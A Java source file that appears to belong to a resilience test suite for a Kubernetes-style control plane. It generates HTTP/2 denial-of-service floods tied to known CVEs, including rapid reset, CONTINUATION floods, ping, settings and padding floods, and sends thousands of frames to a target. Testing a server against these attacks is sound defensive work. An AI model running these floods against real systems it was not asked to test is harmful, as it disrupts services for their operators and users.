package io.coxswain.controlplane.hostile;

import static io.coxswain.controlplane.hostile.Http2Frames.frame;
import static io.coxswain.controlplane.hostile.Http2Frames.number;

import io.coxswain.controlplane.hostile.Onslaught.Kind;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.function.IntFunction;

/// HTTP/2's frames in numbers that no client has use for.
final class Http2Floods {

  private static final int MANY = 3_000;

  static final List<Kind> KINDS =
      List.of(
          // CVE-2023-44487
          new Kind("requests taken back at once", Http2Floods::rapidReset),
          // CVE-2025-8671
          new Kind("requests that the server has to take back", Http2Floods::madeToReset),
          // CVE-2024-27316
          new Kind("a head continued for ever", Http2Floods::continuation),
          new Kind("a head continued for ever by nothing", Http2Floods::emptyContinuation),
          // CVE-2019-9512
          new Kind("pings", Http2Floods::pings),
          // CVE-2019-9515
          new Kind("settings", Http2Floods::settings),
          new Kind("priorities", Http2Floods::priorities),
          // CVE-2019-9518
          new Kind("data that is empty", Http2Floods::emptyData),
          new Kind("frames of no known type", Http2Floods::unknown),
          new Kind("padding", Http2Floods::padding));

  private Http2Floods() {}

  private static void flood(Target target, Chance chance, IntFunction<byte[]> one)
      throws IOException {
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    int count = MANY / 4 + chance.below(MANY);
    for (int i = 0; i < count; i++) {
      frames.writeBytes(one.apply(i));
    }
    Http2Abuse.send(target, Http2Frames.settings(), frames.toByteArray());
  }

  private static byte[] both(byte[] one, byte[] other) {
    byte[] both = java.util.Arrays.copyOf(one, one.length + other.length);
    System.arraycopy(other, 0, both, one.length, other.length);
    return both;
  }

  private static void rapidReset(Target target, Chance chance, Lingering lingering)
      throws IOException {
    String path = chance.of(List.of("/openapi/v2", "/version", "/api/v1/pods?watch=1"));
    flood(
        target,
        chance,
        i ->
            both(
                Http2Frames.get(2 * i + 1, path),
                frame(Http2Frames.RST_STREAM, 0, 2 * i + 1, number(8))));
  }

  private static void madeToReset(Target target, Chance chance, Lingering lingering)
      throws IOException {
    int wrong = chance.of(List.of(0, Integer.MAX_VALUE));
    flood(
        target,
        chance,
        i ->
            both(
                Http2Frames.get(2 * i + 1, "/openapi/v2"),
                frame(Http2Frames.WINDOW_UPDATE, 0, 2 * i + 1, number(wrong))));
  }

  private static void continuation(Target target, Chance chance, Lingering lingering)
      throws IOException {
    byte[] more = Http2Frames.block(List.of(java.util.Map.entry("a", "b".repeat(100))));
    byte[] begin = Http2Frames.block(Http2Frames.request("GET", "/version"));
    flood(
        target,
        chance,
        i ->
            i == 0
                ? frame(Http2Frames.HEADERS, 0, 1, begin)
                : frame(Http2Frames.CONTINUATION, 0, 1, more));
  }

  private static void emptyContinuation(Target target, Chance chance, Lingering lingering)
      throws IOException {
    flood(
        target,
        chance,
        i -> frame(i == 0 ? Http2Frames.HEADERS : Http2Frames.CONTINUATION, 0, 1, new byte[0]));
  }

  private static void pings(Target target, Chance chance, Lingering lingering) throws IOException {
    flood(target, chance, _ -> frame(Http2Frames.PING, 0, 0, new byte[8]));
  }

  private static void settings(Target target, Chance chance, Lingering lingering)
      throws IOException {
    int[] values = chance.percent(50) ? new int[0] : new int[] {4, 1 + chance.below(1 << 20)};
    flood(target, chance, _ -> Http2Frames.settings(values));
  }

  private static void priorities(Target target, Chance chance, Lingering lingering)
      throws IOException {
    flood(
        target,
        chance,
        i -> frame(Http2Frames.PRIORITY, 0, 2 * i + 1, new byte[] {0, 0, 0, 0, (byte) i}));
  }

  private static void emptyData(Target target, Chance chance, Lingering lingering)
      throws IOException {
    byte[] post =
        Http2Frames.block(Http2Frames.request("POST", "/api/v1/namespaces/hostile-0/configmaps"));
    flood(
        target,
        chance,
        i ->
            i == 0
                ? frame(Http2Frames.HEADERS, Http2Frames.END_HEADERS, 1, post)
                : frame(Http2Frames.DATA, 0, 1, new byte[0]));
  }

  private static void unknown(Target target, Chance chance, Lingering lingering)
      throws IOException {
    byte[] payload = new byte[chance.below(100)];
    flood(target, chance, i -> frame(16 + i % 200, i, i, payload));
  }

  /// A body of which only the padding comes.
  private static void padding(Target target, Chance chance, Lingering lingering)
      throws IOException {
    byte[] post =
        Http2Frames.block(Http2Frames.request("POST", "/api/v1/namespaces/hostile-0/configmaps"));
    byte[] padded = new byte[256];
    padded[0] = (byte) 255;
    flood(
        target,
        chance,
        i ->
            i == 0
                ? frame(Http2Frames.HEADERS, Http2Frames.END_HEADERS, 1, post)
                : frame(Http2Frames.DATA, Http2Frames.PADDED, 1, padded));
  }
}
